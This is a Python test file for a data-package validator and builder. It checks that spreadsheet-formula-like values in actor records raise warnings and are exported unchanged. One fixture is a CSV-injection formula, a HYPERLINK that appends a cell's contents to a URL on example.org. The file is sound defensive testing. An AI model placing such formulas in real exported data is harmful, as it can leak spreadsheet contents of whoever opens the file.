"""Formula-like text: kept byte for byte in every format, and reported as a warning (README "Limits and safety")."""

from __future__ import annotations

import csv

import pyarrow.parquet as pq
from click.testing import CliRunner

from pakafg import build, validate
from pakafg.cli import cli

ACTOR = "tables/actors/pakistan.yaml"
NAME = '=HYPERLINK("http://example.org/?x="&A1,"Pakistan")'


def _write_actor(package):
    (package / ACTOR).write_text(
        "actor_id: pakistan\n"
        f"name: '{NAME}'\n"
        "actor_type: state\n"
        "description: \"\\tIslamic Republic\"\n"
        "position: '+92 51 111'\n"
        "note: '@state, -1 is not a formula here'\n"
        "aliases:\n"
        "  - '-Pakistan'\n", encoding="utf-8")


def test_formula_like_text_is_a_warning_not_an_error(package):
    _write_actor(package)
    result = validate(package)
    assert result.valid
    found = {(i.code, i.severity, i.path, i.line, i.field) for i in result.report.issues}
    assert found == {
        ("formula-like-text", "warning", ACTOR, 2, "name"),
        ("formula-like-text", "warning", ACTOR, 4, "description"),
        ("formula-like-text", "warning", ACTOR, 5, "position"),
        ("formula-like-text", "warning", ACTOR, 6, "note"),
        ("formula-like-text", "warning", ACTOR, 8, "alias"),
    }
    out = CliRunner().invoke(cli, ["validate", "--root", str(package)])
    assert out.exit_code == 0
    assert f"{ACTOR}:2:7: actors.name: text starts with '=': a spreadsheet opening the CSV may run it as a formula" in out.output
    assert "0 error(s), 5 warning(s)" in out.output


def test_release_keeps_formula_like_text_exactly(package):
    _write_actor(package)
    release = build(package).path
    with open(release / "csv/actors.csv", encoding="utf-8", newline="") as fh:
        row = next(r for r in csv.DictReader(fh) if r["actor_id"] == "pakistan")
    assert row["name"] == NAME  # no ' prefix, no escaping: the value as written
    assert row["description"] == "\tIslamic Republic"
    assert row["position"] == "+92 51 111"
    with open(release / "csv/actor_aliases.csv", encoding="utf-8", newline="") as fh:
        assert {"actor_id": "pakistan", "alias": "-Pakistan"} in list(csv.DictReader(fh))
    names = pq.read_table(release / "parquet/actors.parquet").to_pydict()
    assert NAME in names["name"]


def test_error_on_the_same_field_is_not_hidden_by_the_warning(package):
    (package / ACTOR).write_text("actor_id: pakistan\nname: Pakistan\nactor_type: '=state'\n", encoding="utf-8")
    codes = {(i.code, i.field) for i in validate(package).report.issues if i.path == ACTOR}
    assert ("enum", "actor_type") in codes
